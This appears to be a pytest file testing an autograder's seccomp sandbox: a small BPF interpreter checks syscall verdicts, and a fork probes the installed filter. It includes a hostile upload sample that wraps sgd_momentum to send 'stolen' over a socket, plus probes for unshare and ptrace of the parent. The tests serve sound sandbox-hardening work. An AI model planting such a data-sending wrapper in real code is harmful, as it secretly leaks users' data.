"""The seccomp filter (autograder/sandbox/seccomp.py): its program run by a small classic-BPF interpreter written
here from linux/filter.h for both architectures, then installed for real in a fork, then in a grading with
namespaces refused (as in Docker)."""
from __future__ import annotations

import ctypes
import errno
import json
import os
import socket
import struct
import sys
import types

import pytest

from autograder.sandbox import seccomp
from autograder.sandbox.student import _source

EPERM_ANSWER = 0x00050000 | errno.EPERM
ENOSYS_ANSWER = 0x00050000 | errno.ENOSYS
ALLOW, KILL = 0x7FFF0000, 0x80000000
AF_INET, AF_INET6, AF_UNIX, AF_NETLINK = 2, 10, 1, 16
CLONE_NEWUSER, CLONE_NEWNET, SIGCHLD = 0x10000000, 0x40000000, 17
THREAD_FLAGS = 0x3D0F00  # what glibc's pthread_create passes to clone: VM, FS, FILES, SIGHAND, THREAD, ...
# The kernel's numbers, read from its unistd headers (x86-64: asm/unistd_64.h, arm64: asm-generic/unistd.h).
READ = {"x86_64": 0, "aarch64": 63}
CONNECT = {"x86_64": 42, "aarch64": 203}


def run_filter(code: bytes, nr: int, arch: int, args: tuple[int, ...] = ()) -> int:
    """What the kernel would answer: ``struct seccomp_data`` packed as it lays it out, the program interpreted
    instruction by instruction (only the opcodes a seccomp filter of ours may use)."""
    data = struct.pack("<iIQ6Q", nr, arch, 0, *(list(args) + [0] * 6)[:6])
    program = [struct.unpack_from("=HBBI", code, offset) for offset in range(0, len(code), 8)]
    accumulator, pc = 0, 0
    while True:
        op, jt, jf, k = program[pc]
        pc += 1
        if op == 0x20:
            (accumulator,) = struct.unpack_from("<I", data, k)
        elif op == 0x06:
            return k
        elif op in (0x15, 0x35, 0x45):
            taken = {0x15: accumulator == k, 0x35: accumulator >= k, 0x45: bool(accumulator & k)}[op]
            pc += jt if taken else jf
        else:
            raise AssertionError(f"unexpected opcode {op:#x}")


@pytest.mark.parametrize("machine", ["x86_64", "aarch64"])
def test_the_filter_answers_each_call_as_documented(machine):
    arch = seccomp.architecture(machine)
    code = seccomp.program(arch)
    numbers = arch.syscalls

    def answer(name_or_nr, *args, audit=arch.audit_arch):
        nr = numbers[name_or_nr] if isinstance(name_or_nr, str) else name_or_nr
        return run_filter(code, nr, audit, args)

    for name in seccomp.REFUSED:
        assert answer(name) == EPERM_ANSWER, name
    assert answer("socket", AF_INET, 1, 0) == answer("socket", AF_INET6, 1, 0) == EPERM_ANSWER
    assert answer("socket", AF_NETLINK, 3, 0) == answer("socketpair", AF_INET, 1, 0) == EPERM_ANSWER
    assert answer("socket", AF_UNIX, 1, 0) == answer("socketpair", AF_UNIX, 1, 0) == ALLOW
    assert answer("socket", AF_UNIX | 1 << 32, 1, 0) == ALLOW  # the kernel reads an int: the high half is ignored
    assert answer("clone", SIGCHLD) == answer("clone", THREAD_FLAGS) == ALLOW  # fork, threads
    assert answer("clone", SIGCHLD | CLONE_NEWUSER) == answer("clone", CLONE_NEWNET) == EPERM_ANSWER
    assert answer("clone3") == ENOSYS_ANSWER
    assert answer(READ[machine]) == answer(CONNECT[machine]) == ALLOW
    foreign = seccomp.AUDIT_ARCH_AARCH64 if machine == "x86_64" else seccomp.AUDIT_ARCH_X86_64
    assert answer(READ[machine], audit=foreign) == KILL
    assert answer(READ[machine], audit=0x40000003) == KILL  # i386 through int 0x80
    if machine == "x86_64":
        assert answer(seccomp.X32_SYSCALL_BIT | READ[machine]) == EPERM_ANSWER


def test_an_unknown_architecture_is_refused_rather_than_left_unfiltered():
    with pytest.raises(seccomp.UnsupportedArchitecture, match="riscv64"):
        seccomp.child_config("riscv64")


def _child_module() -> types.ModuleType:
    """The child's code as the student process runs it (it imports nothing of ours)."""
    child = types.ModuleType("_sandbox_child")
    exec(compile(_source("child"), "<sandbox child>", "exec"), child.__dict__)
    return child


def test_installed_in_a_fork_it_refuses_with_eperm_and_keeps_the_rest_working():
    """The kernel's own answers, in a fork of this test under no_new_privs (no privilege needed), as our own
    user: the refusals are the filter's, not another uid's. It is installed over a filter already in place,
    as inside Docker's default profile."""
    child = _child_module()
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            os.close(read_end)
            libc = ctypes.CDLL(None, use_errno=True)
            libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
            child._install_seccomp(libc, seccomp.child_config())  # a filter already there, as Docker's profile is:
            child._install_seccomp(libc, seccomp.child_config())  # ours stacks on it
            os.write(write_end, json.dumps(_attempts(libc)).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as handle:
        report = json.loads(handle.read() or b"{}")
    _, status = os.waitpid(pid, 0)
    assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
    assert report == {"inet": errno.EPERM, "inet6": errno.EPERM, "unshare": errno.EPERM, "ptrace_parent": errno.EPERM,
                      "unix": "ok", "fork": 3, "thread": "ok", "subprocess": 0}


def _attempts(libc: ctypes.CDLL) -> dict:
    import subprocess
    import threading

    def refused(call):
        try:
            call()
            return "ok"
        except OSError as error:
            return error.errno

    def check(result):
        if result != 0:
            raise OSError(ctypes.get_errno(), "")

    report = {"inet": refused(lambda: socket.socket(socket.AF_INET).close()),
              "inet6": refused(lambda: socket.socket(socket.AF_INET6).close()),
              "unix": refused(lambda: [end.close() for end in socket.socketpair()]),
              "unshare": refused(lambda: check(libc.unshare(CLONE_NEWUSER))),
              "ptrace_parent": refused(lambda: check(libc.ptrace(16, os.getppid(), None, None)))}
    pid = os.fork()
    if pid == 0:
        os._exit(3)
    report["fork"] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    thread = threading.Thread(target=lambda: None)
    thread.start()
    thread.join()
    report["thread"] = "ok"
    report["subprocess"] = subprocess.run([sys.executable, "-c", "pass"]).returncode
    return report


EXFILTRATING_SGD = """

_honest_sgd_momentum = sgd_momentum


def sgd_momentum(w, dw, config=None):
    import socket
    socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(b"stolen")  # refused: PermissionError
    return _honest_sgd_momentum(w, dw, config)
"""


def test_an_upload_that_opens_a_socket_is_still_graded_without_namespaces(tmp_path, monkeypatch, gradescope_schema):
    """The reference, whose sgd_momentum first phones home, graded end to end as in Docker (namespaces refused):
    the tests that call it fail with the ordinary PermissionError, the rest keep their points, results.json
    is valid."""
    from autograder.assignment import load_assignment
    from autograder.grading.grade import grade_submission
    from autograder.grading.results import write_results_json
    from autograder.sandbox import student as student_module
    from hostile.reference_variant import REFERENCE, reference_with

    monkeypatch.setattr(student_module, "namespaces_available", lambda: False)
    optim = (REFERENCE / "deeplearning" / "optim.py").read_text(encoding="utf-8") + EXFILTRATING_SGD
    upload = reference_with(tmp_path, "exfiltrating", {"deeplearning/optim.py": optim})
    result = grade_submission(load_assignment("hw2"), upload)
    tests = {test.id: test for test in result.tests}
    sgd = tests["test_sgd_momentum_published_vectors"]
    assert sgd.score == 0 and "sgd_momentum raised PermissionError: [Errno 1] Operation not permitted" in sgd.output
    lost = [test for test in result.tests if test.score < test.max_score]
    assert all("PermissionError" in test.output or "sgd_momentum" in test.output for test in lost), [
        (test.id, test.output[:200]) for test in lost]
    assert all(test.score == test.max_score for test in result.tests if "adam" in test.id), "adam is not affected"
    assert 0 < result.score < 54.5
    write_results_json(result, tmp_path / "results.json")
    gradescope_schema(json.loads((tmp_path / "results.json").read_text(encoding="utf-8")))
